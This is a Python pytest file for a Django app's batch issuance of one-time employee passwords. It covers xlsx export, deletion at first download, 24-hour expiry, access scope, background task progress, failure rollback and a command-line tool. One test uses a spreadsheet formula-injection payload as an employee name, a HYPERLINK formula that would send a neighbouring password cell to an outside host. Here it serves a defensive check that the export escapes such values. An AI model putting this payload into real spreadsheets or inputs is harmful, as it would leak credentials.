import io
from datetime import timedelta
from pathlib import Path

import pytest
from django.core.exceptions import PermissionDenied
from django.core.management import CommandError, call_command
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from casspath.core import jobs
from casspath.core.actors import SystemActor
from casspath.core.errors import InvalidTransition
from casspath.core.models import AuditEvent, User
from casspath.org.actions.login_files import do_purge_login_files
from casspath.org.actions.logins import (
    do_issue_logins,
    do_queue_issue_logins,
    do_run_login_batch,
    one_time_password,
)
from casspath.org.models import LoginBatch, OrgUnit, Position, Role, RoleAssignment
from casspath.testing import make_employee


@pytest.fixture(autouse=True)
def _private_dir(settings, tmp_path):
    settings.PRIVATE_FILES_DIR = tmp_path / "private"


def passwords(data: bytes) -> dict[str, str]:
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    return {row[3]: row[4] for row in sheet.iter_rows(min_row=2, values_only=True)}


def download(client, batch):
    return client.post(reverse("org:login_batch_download", args=[batch.pk]))


def test_it_makes_readable_passwords_of_twelve_random_characters():
    seen = {one_time_password() for _ in range(200)}
    assert len(seen) == 200
    for password in seen:
        assert len(password.replace("-", "")) == 12
        assert not set(password) & set("0O1lI")


def test_it_issues_logins_to_those_without_one(client, world):
    make_employee("E0003", "新经理", world.team_a, phone="13500000000")
    make_employee("T0002", "新班长", world.team_a, position=Position.objects.get(code="team_lead"))
    client.force_login(world.city_admin_a)
    response = client.post(reverse("org:issue_logins", args=["GZ"]), {})
    batch = LoginBatch.objects.get()
    # The page queues the batch and shows the batch page; tests run Huey immediately.
    assert response.status_code == 302 and response["Location"] == reverse("org:login_batch", args=[batch.pk])
    assert batch.status == LoginBatch.Status.SUCCEEDED
    # E0002, E0003, T0002 had none; T0001 and E0001 keep theirs.
    assert (batch.created_by, batch.org_unit, batch.count) == (world.city_admin_a, world.city_a, 3)
    assert set(User.objects.filter(username__in=["E0002", "E0003", "T0002"]).values_list(
        "username", "must_change_password")) == {("E0002", True), ("E0003", True), ("T0002", True)}
    assert set(RoleAssignment.objects.filter(user__username__in=["E0003", "T0002"]).values_list(
        "user__username", "role", "org_unit__code")) == {
        ("E0003", Role.ACCOUNT_MANAGER, "GZ-TH-01"), ("T0002", Role.TEAM_LEAD, "GZ-TH-01")}
    new_user = User.objects.get(username="E0003")
    assert (new_user.first_name, new_user.employee.employee_no) == ("新经理", "E0003")
    path = Path(client.get(reverse("org:login_batches")).context["batches"][0].file_name)
    assert path.name.endswith(".xlsx")

    response = download(client, batch)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    issued = passwords(response.content)
    assert set(issued) == {"E0002", "E0003", "T0002"}
    # The password in the file logs in, and the first page is the forced password change.
    client.logout()
    response = client.post(reverse("login"), {"username": "E0003", "password": issued["E0003"]})
    assert response.status_code == 302
    assert client.get(reverse("home"))["Location"] == reverse("password_change")
    assert AuditEvent.objects.filter(verb="org.issue_logins", actor=world.city_admin_a).exists()


def test_it_writes_formula_like_names_as_plain_text_beside_the_passwords(client, world):
    hostile = '=HYPERLINK("http://x/?"&E2,"y")'
    make_employee("E0003", hostile, world.team_a)
    OrgUnit.objects.filter(pk=world.team_a.pk).update(name="@SUM(A1)")
    OrgUnit.objects.filter(pk=world.city_a.pk).update(name="-2+3")
    client.force_login(world.city_admin_a)
    batch = do_issue_logins(world.city_a, acting_user=world.city_admin_a)
    workbook = load_workbook(io.BytesIO(download(client, batch).content))
    rows = {row[0].value: row for row in workbook.worksheets[0].iter_rows(min_row=2)}
    assert (rows["E0003"][1].value, rows["E0003"][1].data_type) == (hostile, "s")
    assert (rows["E0003"][2].value, rows["E0003"][2].data_type) == ("@SUM(A1)", "s")
    note = workbook.worksheets[1]["A1"]
    assert (note.value, note.data_type) == ("-2+3 (GZ)", "s")
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]


def test_it_deletes_the_file_at_the_first_download(client, world):
    client.force_login(world.city_admin_a)
    batch = do_issue_logins(world.city_a, acting_user=world.city_admin_a)
    path = Path(batch.file_name)
    from django.conf import settings

    full = Path(settings.PRIVATE_FILES_DIR) / path
    assert full.exists() and oct(full.stat().st_mode & 0o777) == "0o600"
    assert download(client, batch).status_code == 200
    assert not full.exists()
    batch.refresh_from_db()
    assert batch.downloaded_at is not None and batch.file_name == ""
    again = download(client, batch)
    assert again.status_code == 302 and again["Location"] == reverse("org:login_batches")


def test_it_lets_only_the_issuing_admin_download(client, world):
    batch = do_issue_logins(world.province, acting_user=world.province_admin)
    for user in (world.city_admin_a, world.manager, world.outsider):
        client.force_login(user)
        assert download(client, batch).status_code == 404
    client.logout()
    assert download(client, batch).status_code == 302
    batch.refresh_from_db()
    assert batch.is_available
    assert client.get(reverse("org:login_batch_download", args=[batch.pk])).status_code in (302, 405)


def test_it_expires_the_file_after_a_day(client, world, settings):
    batch = do_issue_logins(world.city_a, acting_user=world.city_admin_a)
    full = Path(settings.PRIVATE_FILES_DIR) / batch.file_name
    LoginBatch.objects.filter(pk=batch.pk).update(created_at=timezone.now() - timedelta(hours=25))
    client.force_login(world.city_admin_a)
    assert download(client, batch).status_code == 302
    assert do_purge_login_files(acting_user=world.city_admin_a) == 1
    assert not full.exists()
    batch.refresh_from_db()
    assert batch.file_name == "" and not batch.is_available


def test_it_reissues_passwords_for_everyone_when_asked(world):
    old_hash = User.objects.get(username="E0001").password
    batch = do_issue_logins(world.team_a, acting_user=world.city_admin_a, reissue=True)
    assert batch.count == 3 and batch.reissue
    manager = User.objects.get(username="E0001")
    assert manager.password != old_hash and manager.must_change_password


def test_it_skips_people_who_left_and_reactivates_a_disabled_login(world):
    world.colleague.status = "left"
    world.colleague.save(update_fields=["status"])
    world.manager.is_active = False
    world.manager.save(update_fields=["is_active"])
    batch = do_issue_logins(world.team_a, acting_user=world.city_admin_a)
    assert batch.count == 1
    world.manager.refresh_from_db()
    assert world.manager.is_active and world.manager.must_change_password
    assert not User.objects.filter(username="E0002").exists()


def test_it_refuses_units_out_of_scope(client, world):
    with pytest.raises(PermissionDenied):
        do_issue_logins(world.city_b, acting_user=world.city_admin_a)
    client.force_login(world.city_admin_a)
    assert client.post(reverse("org:issue_logins", args=["SZ"])).status_code == 404
    client.force_login(world.team_lead)
    assert client.post(reverse("org:issue_logins", args=["GZ-TH-01"])).status_code == 404
    assert client.get(reverse("org:login_batches")).status_code == 403
    assert not LoginBatch.objects.exists()


def test_it_says_on_the_page_when_the_file_is_deleted(client, world):
    client.force_login(world.city_admin_a)
    body = client.get(reverse("org:issue_logins", args=["GZ"])).content.decode()
    assert "24" in body and ("deleted at its first download" in body or "首次下载" in body)


def test_it_purges_expired_files_in_the_hourly_task(world, settings):
    from casspath.org.tasks import purge_login_files

    batch = do_issue_logins(world.city_a, acting_user=world.city_admin_a)
    full = Path(settings.PRIVATE_FILES_DIR) / batch.file_name
    assert purge_login_files.call_local() == 0 and full.exists()
    late = timezone.now() - timedelta(hours=24, minutes=1)
    LoginBatch.objects.filter(pk=batch.pk).update(created_at=late)
    assert purge_login_files.call_local() == 1 and not full.exists()
    assert AuditEvent.objects.filter(verb="org.purge_login_files",
                                     actor_label="task:purge_login_files").exists()


def test_it_never_resets_the_issuing_admins_own_login(client, world):
    make_employee("A0001", "广州管理员", world.city_a, user=world.city_admin_a)
    client.force_login(world.city_admin_a)
    client.post(reverse("org:issue_logins", args=["GZ"]), {"reissue": "on"})
    batch = LoginBatch.objects.get()
    assert batch.count == 3  # T0001, E0001, E0002; not A0001 himself
    world.city_admin_a.refresh_from_db()
    assert world.city_admin_a.must_change_password is False
    assert download(client, batch).status_code == 200


# ---------------------------------------------------------------- the background batch


def test_it_queues_the_batch_and_the_task_finishes_it(client, world):
    make_employee("E0003", "新经理", world.team_a)
    client.force_login(world.city_admin_a)
    response = client.post(reverse("org:issue_logins", args=["GZ"]), {}, follow=True)
    batch = LoginBatch.objects.get()
    assert response.redirect_chain == [(reverse("org:login_batch", args=[batch.pk]), 302)]
    assert (batch.status, batch.progress_done, batch.progress_total, batch.count) == ("succeeded", 2, 2, 2)
    assert batch.started_at is not None and batch.finished_at is not None
    assert batch.started_at <= batch.finished_at and batch.attempt == 1
    body = response.content.decode()
    assert "<progress" in body and "2 / 2" in body
    assert 'hx-trigger="every 1s"' not in body  # finished: no more polling
    assert reverse("org:login_batch_download", args=[batch.pk]) in body
    assert set(passwords(download(client, batch).content)) == {"E0002", "E0003"}
    assert AuditEvent.objects.filter(verb="org.queue_logins", actor=world.city_admin_a).count() == 1


def test_it_polls_the_progress_while_the_batch_waits(client, world):
    from casspath.org.tasks import issue_logins

    make_employee("E0003", "新经理", world.team_a)
    batch = do_queue_issue_logins(world.city_a, acting_user=world.city_admin_a)
    # The total is known as soon as the batch is queued.
    assert (batch.status, batch.progress_done, batch.progress_total) == ("queued", 0, 2)
    client.force_login(world.city_admin_a)
    progress_url = reverse("org:login_batch_progress", args=[batch.pk])
    for url in (reverse("org:login_batch", args=[batch.pk]), progress_url):
        body = client.get(url).content.decode()
        assert f'hx-get="{progress_url}"' in body and 'hx-trigger="every 1s"' in body, url
        assert "<progress" in body and "0 / 2" in body and " style=" not in body
        assert reverse("org:login_batch_download", args=[batch.pk]) not in body
    assert issue_logins.call_local(batch.pk) == "succeeded"
    body = client.get(progress_url).content.decode()
    assert "hx-get" not in body and "hx-trigger" not in body
    assert "2 / 2" in body and reverse("org:login_batch_download", args=[batch.pk]) in body


def test_it_commits_the_progress_after_every_chunk(world, monkeypatch):
    monkeypatch.setattr("casspath.org.actions.logins.LOGIN_CHUNK_SIZE", 2)
    for n in range(3, 7):
        make_employee(f"E000{n}", f"经理{n}", world.team_a)
    seen = []

    def progress(done, total):
        stored = LoginBatch.objects.get()
        seen.append((done, total, stored.status, stored.progress_done, stored.progress_total))

    batch = do_issue_logins(world.city_a, acting_user=world.city_admin_a, progress=progress)
    assert seen == [(0, 5, "running", 0, 5), (2, 5, "running", 2, 5), (4, 5, "running", 4, 5),
                    (5, 5, "running", 5, 5)]
    assert (batch.status, batch.count, batch.percent) == ("succeeded", 5, 100)


def test_it_does_not_run_a_finished_batch_again(world):
    from casspath.org.tasks import issue_logins

    batch = do_issue_logins(world.city_a, acting_user=world.city_admin_a)
    password_hash = User.objects.get(username="E0002").password
    assert issue_logins.call_local(batch.pk) == "skipped"
    assert User.objects.get(username="E0002").password == password_hash
    batch.refresh_from_db()
    assert (batch.status, batch.attempt) == ("succeeded", 1)
    assert AuditEvent.objects.filter(verb="org.issue_logins").count() == 1
    with pytest.raises(InvalidTransition):
        jobs.set_status(batch, LoginBatch.Status.RUNNING)


def test_it_leaves_a_running_batch_to_its_worker_and_takes_over_an_abandoned_one(world):
    from casspath.org.tasks import issue_logins

    batch = do_queue_issue_logins(world.city_a, acting_user=world.city_admin_a)
    LoginBatch.objects.filter(pk=batch.pk).update(status="running", attempt=1, heartbeat_at=timezone.now())
    assert issue_logins.call_local(batch.pk) == "skipped"
    assert not User.objects.filter(username="E0002").exists()
    # Its worker died long ago: the logins were never written, so a retry starts over.
    LoginBatch.objects.filter(pk=batch.pk).update(heartbeat_at=timezone.now() - timedelta(minutes=30))
    assert issue_logins.call_local(batch.pk) == "succeeded"
    batch.refresh_from_db()
    assert (batch.count, batch.attempt) == (1, 2)
    assert User.objects.filter(username="E0002").count() == 1


def test_it_writes_nothing_when_another_run_took_the_batch_over(world, settings):
    batch = do_queue_issue_logins(world.city_a, acting_user=world.city_admin_a)

    def taken_over(done, total):
        if done == total:
            LoginBatch.objects.filter(pk=batch.pk).update(attempt=5)

    assert do_run_login_batch(batch.pk, progress=taken_over) is None
    batch.refresh_from_db()
    assert (batch.status, batch.count, batch.file_name) == ("running", 0, "")
    assert not User.objects.filter(username="E0002").exists()
    assert not list((Path(settings.PRIVATE_FILES_DIR) / "logins").glob("*.xlsx"))


def test_it_issues_nothing_when_the_batch_fails_half_way(client, world, monkeypatch, settings):
    monkeypatch.setattr("casspath.org.actions.logins.LOGIN_CHUNK_SIZE", 2)
    for n in range(3, 7):
        make_employee(f"E000{n}", f"经理{n}", world.team_a)
    from casspath.org.actions import logins

    real, calls = logins.make_password, []

    def failing(password):
        calls.append(password)
        if len(calls) == 4:
            raise RuntimeError("hasher crashed")
        return real(password)

    monkeypatch.setattr(logins, "make_password", failing)
    users_before = User.objects.count()
    batch = do_issue_logins(world.city_a, acting_user=world.city_admin_a)
    assert (batch.status, batch.count, batch.file_name, batch.progress_done) == ("failed", 0, "", 2)
    assert "未签发任何登录" in batch.error_zh and "no login was issued" in batch.error_en
    assert batch.finished_at is not None
    assert User.objects.count() == users_before
    assert not list((Path(settings.PRIVATE_FILES_DIR) / "logins").glob("*.xlsx"))
    assert AuditEvent.objects.filter(verb="org.issue_logins_failed", actor=world.city_admin_a).exists()
    client.force_login(world.city_admin_a)
    body = client.get(reverse("org:login_batch", args=[batch.pk]), HTTP_ACCEPT_LANGUAGE="en").content.decode()
    assert "no login was issued" in body and reverse("org:issue_logins", args=["GZ"]) in body


def test_it_issues_only_to_who_still_qualifies_when_the_roster_moved(world):
    make_employee("E0003", "新经理", world.team_a)

    def leaves(done, total):
        if done == total:
            world.colleague.status = "left"
            world.colleague.save(update_fields=["status"])

    batch = do_issue_logins(world.city_a, acting_user=world.city_admin_a, progress=leaves)
    assert (batch.status, batch.count) == ("succeeded", 1)
    assert not User.objects.filter(username="E0002").exists()
    event = AuditEvent.objects.get(verb="org.issue_logins")
    assert event.changes["employees"] == ["E0003"] and "E0002" in event.changes["skipped"]


def test_it_fails_the_batch_when_the_admin_lost_his_scope(world):
    batch = do_queue_issue_logins(world.city_a, acting_user=world.city_admin_a)
    RoleAssignment.objects.filter(user=world.city_admin_a).delete()
    do_run_login_batch(batch.pk)
    batch.refresh_from_db()
    assert batch.status == "failed" and "GZ" in batch.error_zh and "GZ" in batch.error_en
    assert not User.objects.filter(username="E0002").exists()


def test_it_fails_the_batch_when_the_queue_is_down(client, world, monkeypatch):
    def unreachable(batch_id):
        raise ConnectionError("redis is down")

    monkeypatch.setattr("casspath.org.tasks.issue_logins", unreachable)
    client.force_login(world.city_admin_a)
    response = client.post(reverse("org:issue_logins", args=["GZ"]), {})
    batch = LoginBatch.objects.get()
    assert response["Location"] == reverse("org:login_batch", args=[batch.pk])
    assert batch.status == "failed" and "后台队列" in batch.error_zh and "queued" in batch.error_en
    assert not User.objects.filter(username="E0002").exists()


def test_it_shows_the_batch_only_to_its_issuer(client, world):
    batch = do_queue_issue_logins(world.province, acting_user=world.province_admin)
    urls = [reverse("org:login_batch", args=[batch.pk]), reverse("org:login_batch_progress", args=[batch.pk])]
    for user in (world.city_admin_a, world.city_admin_b, world.team_lead, world.manager, world.outsider):
        client.force_login(user)
        for url in urls:
            assert client.get(url).status_code == 404, (user, url)
    client.logout()
    for url in urls:
        response = client.get(url)
        assert response.status_code == 302 and response["Location"].startswith(reverse("login"))
    client.force_login(world.province_admin)
    assert all(client.get(url).status_code == 200 for url in urls)
    assert client.get(reverse("org:login_batch", args=[batch.pk + 1])).status_code == 404


def test_it_refuses_to_queue_outside_the_scope_or_for_the_system(client, world):
    client.force_login(world.city_admin_b)
    assert client.post(reverse("org:issue_logins", args=["GZ"]), {}).status_code == 404
    client.force_login(world.manager)
    assert client.post(reverse("org:issue_logins", args=["GZ-TH-01"]), {}).status_code == 404
    client.logout()
    assert client.post(reverse("org:issue_logins", args=["GZ"]), {}).status_code == 302
    with pytest.raises(PermissionDenied):
        do_queue_issue_logins(world.city_a, acting_user=world.city_admin_b)
    with pytest.raises(ValueError, match="by a person"):
        do_queue_issue_logins(world.city_a, acting_user=SystemActor.cli())
    assert not LoginBatch.objects.exists()


def test_it_lists_batches_with_their_status_in_few_queries(client, world, django_assert_max_num_queries):
    do_issue_logins(world.team_a, acting_user=world.city_admin_a)
    for unit in (world.city_a, world.district_a, world.team_a):
        do_queue_issue_logins(unit, acting_user=world.city_admin_a)
    client.force_login(world.city_admin_a)
    with django_assert_max_num_queries(8):
        body = client.get(reverse("org:login_batches")).content.decode()
    # Three queued (grey badge, progress so far), one succeeded (green, its count).
    assert body.count("text-bg-secondary") == 3 and body.count("text-bg-success") == 1
    last = LoginBatch.objects.last()
    assert last is not None
    assert body.count(reverse("org:login_batch_download", args=[last.pk])) == 1
    for batch in LoginBatch.objects.all():
        assert reverse("org:login_batch", args=[batch.pk]) in body


# ---------------------------------------------------------------- the command line


def test_it_writes_the_file_from_the_command_line(world, tmp_path):
    make_employee("E0003", "新经理", world.team_a)
    out, path = io.StringIO(), tmp_path / "gz.xlsx"
    call_command("issue_logins", "GZ", "--out", str(path), stdout=out, stderr=io.StringIO())
    issued = passwords(path.read_bytes())
    assert set(issued) == {"E0002", "E0003"}
    rows = load_workbook(path).worksheets[0].iter_rows(min_row=2, values_only=True)
    names = {row[0]: row[1] for row in rows}
    assert names == {"E0002": "赵同事", "E0003": "新经理"}
    assert User.objects.get(username="E0003").check_password(issued["E0003"])
    assert oct(path.stat().st_mode & 0o777) == "0o600"
    assert "2 / 2" in out.getvalue() and "0 / 2" in out.getvalue()
    batch = LoginBatch.objects.get()
    assert (batch.status, batch.count, batch.created_by, batch.written_by_cli, batch.file_name) == (
        "succeeded", 2, None, True, "")
    assert batch.created_by_label.startswith("cli:")
    assert AuditEvent.objects.get(verb="org.issue_logins").actor_label.startswith("cli:")


def test_it_acts_as_the_named_user_within_his_scope_on_the_command_line(world, tmp_path):
    path = tmp_path / "team.xlsx"
    with pytest.raises(CommandError, match="may not issue logins"):
        call_command("issue_logins", "SZ", "--as", "gzadmin", "--out", str(path))
    with pytest.raises(CommandError, match="no such active user"):
        call_command("issue_logins", "GZ", "--as", "nobody", "--out", str(path))
    with pytest.raises(CommandError, match="no such unit"):
        call_command("issue_logins", "XX", "--out", str(path))
    assert not LoginBatch.objects.exists() and not path.exists()
    old_hash = User.objects.get(username="E0001").password
    call_command("issue_logins", "GZ-TH-01", "--reissue", "--as", "gzadmin", "--out", str(path),
                 stdout=io.StringIO(), stderr=io.StringIO())
    assert set(passwords(path.read_bytes())) == {"T0001", "E0001", "E0002"}
    assert User.objects.get(username="E0001").password != old_hash
    batch = LoginBatch.objects.get()
    assert (batch.created_by, batch.reissue, batch.written_by_cli) == (world.city_admin_a, True, True)
    with pytest.raises(CommandError, match="not overwritten"):
        call_command("issue_logins", "GZ-TH-01", "--as", "gzadmin", "--out", str(path))


def test_it_hands_back_the_batch_already_queued_for_the_unit_instead_of_a_copy(client, world):
    first = do_queue_issue_logins(world.city_a, acting_user=world.city_admin_a)  # not run yet
    client.force_login(world.city_admin_a)
    for _click in range(3):
        response = client.post(reverse("org:issue_logins", args=["GZ"]), {}, follow=True)
        assert response.redirect_chain[-1][0] == reverse("org:login_batch", args=[first.pk])
        assert "已在排队或运行中" in response.content.decode()
    assert list(LoginBatch.objects.values_list("pk", flat=True)) == [first.pk]
    assert AuditEvent.objects.filter(verb="org.queue_logins").count() == 1
    first.refresh_from_db()
    assert first.status == LoginBatch.Status.QUEUED  # not enqueued again either
    # Other options, another unit (even one inside it) or another admin: a batch of their own.
    client.post(reverse("org:issue_logins", args=["GZ"]), {"reissue": "on"})
    client.post(reverse("org:issue_logins", args=["GZ-TH-01"]), {})
    client.force_login(world.province_admin)
    client.post(reverse("org:issue_logins", args=["GZ"]), {})
    assert LoginBatch.objects.count() == 4
    # Once it has finished, issuing again queues a new batch.
    do_run_login_batch(first.pk)
    client.force_login(world.city_admin_a)
    client.post(reverse("org:issue_logins", args=["GZ"]), {})
    assert LoginBatch.objects.filter(org_unit=world.city_a, reissue=False,
                                     created_by=world.city_admin_a).count() == 2


def test_it_refuses_a_second_copy_of_a_running_batch_on_the_command_line(world, tmp_path):
    running = do_queue_issue_logins(world.team_a, acting_user=world.city_admin_a, written_by_cli=True)
    assert jobs.claim(LoginBatch, running.pk) is not None  # another command runs it
    path = tmp_path / "team.xlsx"
    with pytest.raises(CommandError, match=f"batch {running.pk}.* already running"):
        call_command("issue_logins", "GZ-TH-01", "--as", "gzadmin", "--out", str(path),
                     stdout=io.StringIO(), stderr=io.StringIO())
    assert not path.exists() and LoginBatch.objects.count() == 1
    assert AuditEvent.objects.filter(verb="org.queue_logins").count() == 1
    assert not User.objects.filter(username="E0002").exists()
